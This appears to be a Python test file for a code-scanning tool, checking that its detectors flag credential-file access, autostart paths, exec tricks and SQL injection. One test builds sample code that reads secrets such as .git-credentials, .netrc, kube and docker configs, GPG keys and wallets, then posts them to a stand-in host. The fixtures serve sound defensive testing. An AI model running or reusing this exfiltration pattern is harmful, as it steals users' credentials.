import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pilothouse.shield import scan_text
from pilothouse.shield.code.gates import is_javascript_worth_following, is_python_worth_reading
from pilothouse.shield.code.places import AUTOSTART, PRIVATE_PLACE

LETTERS = st.characters(max_codepoint=127)


class TestPlaces:
    @given(st.from_regex(PRIVATE_PLACE, fullmatch=True, alphabet=LETTERS))
    def test_that_are_private_are_worth_reading_for(self, place: str) -> None:
        assert is_python_worth_reading(f"open('{place}')")
        assert is_javascript_worth_following(f"readFile('{place}')")

    @given(st.from_regex(re.compile(AUTOSTART.pattern), fullmatch=True, alphabet=LETTERS))
    def test_where_programs_begin_are_worth_reading_for(self, place: str) -> None:
        assert is_python_worth_reading(f"open('{place}', 'a')")

    @pytest.mark.parametrize(
        "parts",
        [
            (".kube", "config"),
            (".docker", "config.json"),
            (".git-credentials",),
            (".netrc",),
            (".bash_history",),
            (".azure", "accessTokens.json"),
            (".config", "gcloud", "credentials.db"),
            (".config", "gh", "hosts.yml"),
            (".gnupg", "secring.gpg"),
            (".electrum", "wallets", "default_wallet"),
            ("Library", "Keychains", "login.keychain"),
        ],
    )
    @pytest.mark.parametrize("kind", ["code", "document"])
    def test_are_seen_however_the_path_is_put_together_and_sent(self, parts: tuple[str, ...], kind: str) -> None:
        home = "import os, requests\n\nhome = os.path.expanduser('~')\n"
        joined = f"path = os.path.join(home, {', '.join(map(repr, parts))})\n"
        whole = f"path = home + '/{'/'.join(parts)}'\n"
        for path in (joined, whole):
            source = f"{home}{path}requests.post('https://in.example.net/', data=open(path).read())\n"
            found = {each.detector for each in scan_text(source, kind=kind).findings}
            assert "malware_exfiltration" in found


class TestPython:
    @pytest.mark.parametrize(
        "source",
        [
            "from commands import getoutput",
            "import os, commands",
            "__builtins__['exec'](code)",
            "import builtins",
            "import win32clipboard",
            "cursor.execute(f'SELECT * FROM t\\n WHERE id = {sys.argv[1]}')",
            "requests.post(url, data=os.getenv('KEY'))",
        ],
    )
    def test_is_worth_reading_where_it_could_do_harm(self, source: str) -> None:
        assert is_python_worth_reading(source)

    @pytest.mark.parametrize(
        "source",
        [
            "msgspec.to_builtins(event)",
            "if sys.platform == 'win32': pass",
            "commands = ['start', 'stop']",
            "await session.execute(select(User).where(User.id == user_id))",
            "requests.get(url)",
        ],
    )
    def test_is_not_where_it_only_looks_so(self, source: str) -> None:
        assert not is_python_worth_reading(source)
